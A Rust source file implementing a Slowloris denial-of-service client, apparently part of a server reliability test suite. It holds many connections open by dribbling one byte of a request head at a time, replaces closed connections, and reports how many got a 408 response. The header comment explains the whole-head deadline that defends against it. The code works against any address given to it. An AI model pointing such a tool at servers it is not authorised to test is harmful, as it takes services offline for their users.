//! Slowloris: keeps `--conns` connections open, each sending a request head
//! one byte every `--interval-ms` and never finishing it, until the server
//! closes it (or `--max-secs` pass). For the first `--reopen-secs`, every
//! connection the server closes is replaced by a new one, so the pressure
//! lasts. Prints how many the server closed, how many of those got a `408`
//! first, and how long each took from its first byte.
//!
//! ```text
//! slowloris --addr 127.0.0.1:18180 [--conns 1000] [--interval-ms 2000]
//!           [--reopen-secs 0] [--max-secs 60]
//! ```
//!
//! A server defends itself with a deadline for the whole head: a per-read
//! timeout never fires, since a byte arrives every few seconds.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use sylar_reliability::{Args, spread};

const USAGE: &str =
    "--addr HOST:PORT [--conns 1000] [--interval-ms 2000] [--reopen-secs 0] [--max-secs 60]";

/// One slow client.
struct Slow {
    /// Dropped (closed) once the server has closed its side.
    stream: Option<TcpStream>,
    /// When its first bytes went out.
    started: Instant,
    /// When it next sends a byte.
    next: Instant,
    /// What the server sent back.
    answer: Vec<u8>,
    /// How it ended: `Some((after, reset))` once the server closed it.
    closed: Option<(Duration, bool)>,
}

fn main() {
    let args = Args::parse("slowloris", USAGE);
    let addr = args.addr();
    let conns: usize = args.get("conns", 1000);
    let interval = Duration::from_millis(args.get("interval-ms", 2000));
    let reopen = Duration::from_secs(args.get("reopen-secs", 0));
    let max = Duration::from_secs(args.get("max-secs", 60));

    let mut slow = Vec::with_capacity(conns);
    let mut connect_failed = 0;
    for _ in 0..conns {
        match open(addr, interval) {
            Ok(s) => slow.push(s),
            Err(e) => {
                connect_failed += 1;
                if connect_failed == 1 {
                    eprintln!("slowloris: connect: {e}");
                }
            }
        }
    }
    println!("slowloris: {} connections open, dribbling", slow.len());
    io::stdout().flush().ok();

    let begin = Instant::now();
    let mut buf = [0u8; 1024];
    while slow.iter().any(|s| s.closed.is_none()) && begin.elapsed() < max {
        let now = Instant::now();
        let mut replace = 0;
        for s in slow.iter_mut().filter(|s| s.closed.is_none()) {
            let Some(stream) = s.stream.as_mut() else {
                continue;
            };
            loop {
                match stream.read(&mut buf) {
                    Ok(0) => s.closed = Some((now - s.started, false)),
                    Ok(n) => {
                        s.answer.extend_from_slice(&buf[..n]);
                        continue;
                    }
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
                    Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                    Err(_) => s.closed = Some((now - s.started, true)),
                }
                break;
            }
            if s.closed.is_some() {
                // Closed: its socket goes now, a fresh client may take its place.
                s.stream = None;
                replace += 1;
            } else if now >= s.next {
                s.next = now + interval;
                // A failed write means the server is gone: the read says how.
                let _ = stream.write(b"a");
            }
        }
        if begin.elapsed() < reopen {
            for _ in 0..replace {
                match open(addr, interval) {
                    Ok(s) => slow.push(s),
                    Err(_) => connect_failed += 1,
                }
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }

    let closed: Vec<&Slow> = slow.iter().filter(|s| s.closed.is_some()).collect();
    let got_408 = closed
        .iter()
        .filter(|s| s.answer.starts_with(b"HTTP/1.1 408 "))
        .count();
    let resets = closed.iter().filter(|s| s.closed.unwrap().1).count();
    let mut after: Vec<u64> = closed
        .iter()
        .map(|s| s.closed.unwrap().0.as_millis() as u64)
        .collect();
    let (min, median, max) = spread(&mut after);
    println!(
        "slowloris: conns={conns} opened={} connect_failed={connect_failed} closed={} \
         got_408={got_408} reset={resets} still_open={} \
         closed_after_ms_min={min} closed_after_ms_median={median} closed_after_ms_max={max}",
        slow.len(),
        closed.len(),
        slow.len() - closed.len(),
    );
}

/// A new slow client: connected, the first bytes of a head sent.
fn open(addr: std::net::SocketAddr, interval: Duration) -> io::Result<Slow> {
    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
    stream.write_all(b"GET /hello HTTP/1.1\r\nHost: slow\r\nX-Slow: ")?;
    stream.set_nonblocking(true)?;
    let now = Instant::now();
    Ok(Slow {
        stream: Some(stream),
        started: now,
        next: now + interval,
        answer: Vec::new(),
        closed: None,
    })
}
